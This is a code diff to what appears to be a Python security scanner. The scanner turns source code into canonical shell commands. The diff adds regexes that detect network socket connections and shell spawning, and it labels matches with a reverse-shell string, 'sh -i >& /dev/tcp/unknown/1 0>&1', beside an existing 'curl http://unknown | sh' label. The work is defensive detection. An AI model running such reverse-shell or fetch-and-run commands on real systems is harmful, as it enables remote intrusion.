@@ -25,6 +25,7 @@ if TYPE_CHECKING:
 _MOST_CALLS = 1000
 _MOST_TEXT = 1_000_000
 _LONGEST_LINE = 2000
+_CONNECTION = "a connection"
 _SLOT = re.compile(r"\{(\w+|\*)\}")
 _QUALIFIED = re.compile(r"[\w.]*(?:(?:::|->|\?\.)[\w.]*)*$")
 _ASSIGNMENT = re.compile(
@@ -73,6 +74,14 @@ _FETCHED = re.compile(
     r"(?<![\w.])(?:exec|eval|instance_eval|class_eval|loadstring|load|runInThisContext|runInNewContext|Function|source)"
     r"\b[^\n;]{0,120}?(?:urlopen|requests\.get|httpx\.get|urllib|fetch\s*\(|file_get_contents\s*\(\s*[\"'](?:https?|ftp)"
     r"|LWP::Simple|URI\.open|open\(\s*[\"']https?|Net::HTTP|http\.get|axios)"
+)
+_CONNECTS = re.compile(
+    r"\.connect\(|TcpStream::connect|net\.Dial\(|new Socket\(|fsockopen\(|TCPSocket\.(?:new|open)|socket\.socket\("
+    r"|s\.socket\(|net\.Socket\(|TcpClient\(|Socket\.connect\(|create_connection\(|sockaddr_in\(|createServer\(|tcp:connect"
+)
+_SHELLS_OUT = re.compile(
+    r"[\"'`](?:/usr)?/bin/(?:ba|z|da|k)?sh\b|pty\.spawn\(|\bdup2\(|[\"'](?:cmd|powershell)(?:\.exe)?[\"']"
+    r"|[pP]open\d?\(\s*[a-z_]\w*\s*[,)]"
 )
 _BARE = frozenset(
     {
@@ -141,6 +150,7 @@ def commands_of(source: str, constants: MutableMapping[str, Value] | None = None
         strings = [m.span() for m in _LITERAL.finditer(source)] if strings is None else strings
         if not _silent(source, match.start(), strings):
             found += _opened(source, match, constants)
+    found += _connected(source, constants)
     found += [_piece("curl http://unknown | sh", *match.span()) for match in islice(_FETCHED.finditer(source), 4)]
     return found
 
@@ -196,6 +206,8 @@ def _read(
         if text is not None:
             yield text, reader.position
             return
+    if match["name"] == "exec" and values and isinstance(values[0], str) and "(" in values[0]:
+        yield from ((piece.text, reader.position) for piece in commands_of(values[0], constants))
     if match["name"] in _RUNS and values and (text := _run(match["name"], source, reader.position, values, constants)):
         yield text, reader.position
 
@@ -267,6 +279,14 @@ def _run(
     return " ".join(map(_quoted, words))
 
 
+def _connected(source: str, constants: MutableMapping[str, Value]) -> list[Piece]:
+    """A shell that is joined to a connection, made on this line or on one before."""
+    if _CONNECTS.search(source):
+        constants[_CONNECTION] = "made"
+    shell = _SHELLS_OUT.search(source) if _CONNECTION in constants else None
+    return [_piece("sh -i >& /dev/tcp/unknown/1 0>&1", *shell.span())] if shell is not None else []
+
+
 def _opened(source: str, match: re.Match[str], constants: MutableMapping[str, Value]) -> list[Piece]:
     """`open(PATH, "w")` and its like, Perl's `open(F, ">PATH")` too."""
     reader = Reader(source, constants)
@@ -275,7 +295,7 @@ def _opened(source: str, match: re.Match[str], constants: MutableMapping[str, Va
     for one, other in pairwise(values):
         for path, mode in ((one, other.strip()), (other, one.strip())):
             if path.startswith(("/", "~")) and (_WRITES.match(mode) or _APPENDS.match(mode)):
-                texts.append(f"echo {'>>' if _APPENDS.match(mode) else '>'} {_quoted(path)}")
+                texts.append(f"{'echo >>' if _APPENDS.match(mode) else 'true >'} {_quoted(path)}")
     written = filter(None, map(_WRITTEN.fullmatch, values))
     texts += [f"echo {found[1]} {_quoted(found[2])}" for found in written]
     if not texts and values and values[0].startswith(("/", "~")):
